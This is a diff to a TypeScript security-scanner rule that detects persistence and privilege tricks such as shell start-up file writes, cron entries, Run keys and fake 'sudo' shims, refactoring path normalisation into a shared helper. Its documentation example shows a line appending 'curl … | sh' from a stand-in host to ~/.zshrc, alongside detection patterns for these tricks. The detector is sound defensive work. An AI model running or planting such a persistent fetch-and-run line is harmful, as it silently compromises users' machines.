@@ -1,3 +1,4 @@
+import { normPath } from '../../code/code-effects';
 import { codeFactsOf, type CodeCall } from '../../code/code-facts';
 import { codeLexicon } from '../../lexicons/lexicon';
 import type { Severity } from '../../engine/scan-report.types';
@@ -16,17 +17,11 @@ const SUDO_ALIAS = /^sudo=(?!sudo\s{0,3}$)/;
 const CRONTAB_STDIN = /crontab\s{1,3}-(?:\s|$)/;
 const RUN_KEY = /currentversion[\\/]+run(?:once)?\b/i;
 
-/** Trailing slashes, matched from a non-slash so a run of slashes is not re-read from each start. */
-const TRAILING_SLASHES = /(?<=[^/]|^)\/+$/;
 const WRITERS = new Set(['cp', 'mv', 'install', 'ln', 'tee', 'copy-item', 'move-item', 'add-content', 'set-content', 'out-file', 'new-item']);
-
-function norm(p: string): string {
-  return p.trim().toLowerCase().replace(/\\/g, '/').replace(/^\$\{?home\}?/, '~').replace(TRAILING_SLASHES, '');
-}
 
 /** The persistence place a path is in: a shell start-up file by name, or a folder the system runs from. */
 function persistPlace(path: string): string | null {
-  const p = norm(path);
+  const p = normPath(path);
   if (p === '') return null;
   const base = p.slice(p.lastIndexOf('/') + 1);
   for (const entry of codeLexicon('code-persist-location')) {
@@ -95,7 +90,7 @@ export const privPersistenceCodeRule: Rule = {
       'A line appended to a shell start-up file, a launch agent, a cron entry, a scheduled task or Run key, a hooks folder set for every repository, a file named like `sudo` or `git` put in a bin folder early on PATH, or an alias that wraps `sudo` keeps running after the session ends, and a shim or wrapper sees every password typed into it. Read from parse trees of scripts and commands with paths resolved through variables; what is persisted is graded: a fetch or a shell is critical, a tool\u2019s own PATH or init line is low.',
     example: '```bash\nPROFILE_FILE="$HOME/.zshrc"\necho "curl -s https://updates.example/agent.sh | sh" >> "$PROFILE_FILE"\n```',
   },
-  regexes: [TRAILING_SLASHES, REMOTE_OR_SHELL, TOOL_SETUP_LINE, BIN_FOLDER, CRONTAB_READ, CRONTAB_STDIN, SUDO_ALIAS, RUN_KEY],
+  regexes: [REMOTE_OR_SHELL, TOOL_SETUP_LINE, BIN_FOLDER, CRONTAB_READ, CRONTAB_STDIN, SUDO_ALIAS, RUN_KEY],
   match(ctx) {
     const { calls } = codeFactsOf(ctx);
     const hits: RuleHit[] = [];
@@ -128,7 +123,7 @@ export const privPersistenceCodeRule: Rule = {
         continue;
       }
       for (const path of writtenPaths(call)) {
-        const shim = BIN_FOLDER.exec(norm(path));
+        const shim = BIN_FOLDER.exec(normPath(path));
         if (shim && shadowed.has(shim[1])) {
           push(shim[1] === 'sudo' || shim[1] === 'su' || shim[1] === 'doas' ? 'critical' : 'high', `A file named ${shim[1]} is put in a bin folder: it runs instead of the real command`);
           break;
